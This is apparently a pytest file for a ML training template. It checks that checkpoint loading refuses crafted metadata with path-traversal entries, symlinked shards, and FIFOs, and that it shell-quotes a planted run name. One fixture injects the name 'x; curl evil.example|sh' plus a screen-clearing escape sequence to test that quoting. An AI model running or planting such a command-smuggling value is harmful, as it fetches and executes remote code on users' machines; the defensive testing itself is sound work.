"""A checkpoint is data from anywhere: a sharded one whose `.metadata` (or a link in it) names a file
outside its folder, and a FIFO where a checkpoint or one of its files should be, are refused in one
line before anything is read, with checkpoint.verify on or off. A run that waited on a FIFO would be
killed at run_cli's time-out, failing its test instead of hanging the suite. A folder where the
home's lock file goes is named as such, and left as it is."""

import os
import pickle
import shutil
from pathlib import Path

import pytest
from conftest import configured, run_cli
from test_distributed import CPU
from test_sharded import reseal

from {{cookiecutter.package}}.engine import train as recipe
from {{cookiecutter.package}}.engine.checkpoint import dcp_files
from {{cookiecutter.package}}.engine.checkpoint.claim import after_holder
from {{cookiecutter.package}}.engine.checkpoint.onefile import write
from {{cookiecutter.package}}.engine.checkpoint.resume import load
from {{cookiecutter.package}}.engine.checkpoint.schema import STATE
from {{cookiecutter.package}}.engine.errors import CheckpointError, RunError
from {{cookiecutter.package}}.engine.exporting import export
from {{cookiecutter.package}}.engine.saved_model import CHOICES

QUIET = "mlflow.enabled=false"
SHARD = "__0_0.distcp"  # the one shard file of a group of one process


@pytest.fixture
def folder(make_cfg, checkpoint_dir) -> Path:
    """A sharded checkpoint of the configured model, written by strategy=fsdp in this process."""
    recipe.train(make_cfg(QUIET, "strategy=fsdp", "trainer.max_steps=5", "checkpoint.every_n_steps=5"))
    return checkpoint_dir / "step_00000005"


def refused(folder: Path, reason: str) -> str:
    return f"{folder} was refused: {reason}; load only checkpoints this project wrote"


@pytest.mark.parametrize("verify", ["true", "false"])
@pytest.mark.parametrize("entry", ["resume", "init.checkpoint", "export.py"])
def test_a_metadata_naming_a_file_outside_its_folder_is_refused_before_any_read(
    make_cfg, folder, tmp_path, entry, verify
):
    """The file outside holds shards that would load (a copy): only the refusal keeps them out."""
    outside = tmp_path / "elsewhere" / SHARD
    outside.parent.mkdir()
    shutil.copy(folder / SHARD, outside)
    metadata = dcp_files.read_metadata(folder / dcp_files.METADATA)
    for stored in metadata.storage_data.values():
        stored.relative_path = f"../../elsewhere/{SHARD}"
    (folder / dcp_files.METADATA).write_bytes(pickle.dumps(metadata))
    reseal(folder, dcp_files.METADATA)  # as whoever crafted it would: the seal is no signature

    checked = f"checkpoint.verify={verify}"
    with pytest.raises(CheckpointError) as error:
        if entry == "export.py":
            export(make_cfg(checked), str(folder), tmp_path / "out.safetensors", "fp32")
        elif entry == "resume":
            recipe.train(make_cfg(QUIET, checked, f"resume={folder}", "strategy=fsdp", "trainer.max_steps=10"))
        else:  # a fine-tune, into a home of its own
            recipe.train(make_cfg(QUIET, checked, f"init.checkpoint={folder}", f"checkpoint.dir={tmp_path}/new"))
    assert str(error.value) == refused(folder, f"../../elsewhere/{SHARD} leads outside its folder")
    assert not (tmp_path / "out.safetensors").exists()


def test_a_shard_that_is_a_link_to_a_file_outside_is_refused(make_cfg, folder, tmp_path):
    outside = tmp_path / SHARD
    (folder / SHARD).rename(outside)
    (folder / SHARD).symlink_to(outside)
    with pytest.raises(CheckpointError) as error:
        export(make_cfg("checkpoint.verify=false"), str(folder), tmp_path / "out.safetensors", "fp32")
    assert str(error.value) == refused(folder, f"{SHARD} leads outside its folder")


@pytest.mark.parametrize(
    ("script", "setting", "instead"),
    [
        ("run.py", "resume", "resume=last, resume=auto"),
        ("run.py", "init.checkpoint", "the name of a run with checkpoints"),
        ("eval.py", "checkpoint", CHOICES),
        ("export.py", "checkpoint", CHOICES),
    ],
)
def test_a_fifo_named_for_a_checkpoint_is_refused_in_one_line_at_once(project, script, setting, instead):
    fifo = project / "fifo"
    os.mkfifo(fifo)
    result = run_cli(project, *CPU, f"{setting}={fifo}", script=script)
    assert result.returncode == 2, result.stderr
    assert result.stderr.strip() == (
        f"error: {setting}={fifo}: {fifo} is a FIFO, not a checkpoint file or folder; pass {instead} or a "
        f"checkpoint's path"
    )


@pytest.mark.parametrize("name", [STATE, dcp_files.METADATA, SHARD])
def test_a_fifo_inside_a_sharded_checkpoint_is_refused_in_one_line_at_once(project, folder, name):
    (folder / name).unlink()
    os.mkfifo(folder / name)
    result = run_cli(project, *CPU, f"checkpoint={folder}", "checkpoint.verify=false", script="export.py")
    assert result.returncode == 2, result.stderr
    assert result.stderr.strip() == f"error: {refused(folder, f'its {name} is a FIFO, not a regular file')}"


def test_a_name_planted_in_a_checkpoint_is_quoted_without_its_control_characters_in_the_commands_offered(
    make_cfg, checkpoint_dir
):
    recipe.train(make_cfg(QUIET, "trainer.max_steps=5", "checkpoint.every_n_steps=5"))
    path = checkpoint_dir / "step_00000005.pt"
    state = load(path).state
    state["config"]["name"] = "x; curl evil.example|sh\x1b[2J"  # ESC [2J: clears the screen it is printed on
    write(state, path)
    this = make_cfg(QUIET, "trainer.max_steps=5")
    with pytest.raises(RunError) as fresh:
        recipe.train(this)
    with pytest.raises(RunError) as resumed:
        recipe.train(make_cfg(QUIET, "trainer.max_steps=10", "resume=last"))
    quoted = "'x; curl evil.example|sh[2J'"  # one word to the shell, pasted
    assert str(fresh.value) == (
        f"{checkpoint_dir} holds the checkpoints of another run, {quoted}; continue that run with name={quoted} "
        f"checkpoint.dir={checkpoint_dir} resume=last, or give '{this.name}' a folder of its own with checkpoint.dir=<path>"
    )
    assert str(resumed.value) == (
        f"{path} is a checkpoint of the run {quoted}, not of '{this.name}'; continue that run with name={quoted} "
        f"resume=last, or drop resume= and start this one from its weights with init.checkpoint={path}"
    )


def test_a_folder_where_the_lock_file_goes_is_named_as_one_in_one_line_and_left_as_it_is(project):
    lock = project / "checkpoints" / configured().name / "run.lock"
    lock.mkdir(parents=True)
    (lock / "mine.txt").write_text("mine")
    result = run_cli(project, *CPU, QUIET, "trainer.max_steps=5")
    assert result.returncode == 2, result.stderr
    said = (
        f"{lock} is a folder, where this run keeps its lock file (one it writes itself): move the folder out of the "
        f"checkpoint folder (mv {lock} <elsewhere>) and run again"
    )
    assert result.stderr.strip() == f"error: {said}"
    with pytest.raises(RunError) as raised, after_holder(lock.parent):  # what a standby waits on
        pass
    assert str(raised.value) == said
    assert sorted(path.name for path in lock.parent.rglob("*")) == ["mine.txt", "run.lock"]
    assert (lock / "mine.txt").read_text() == "mine"
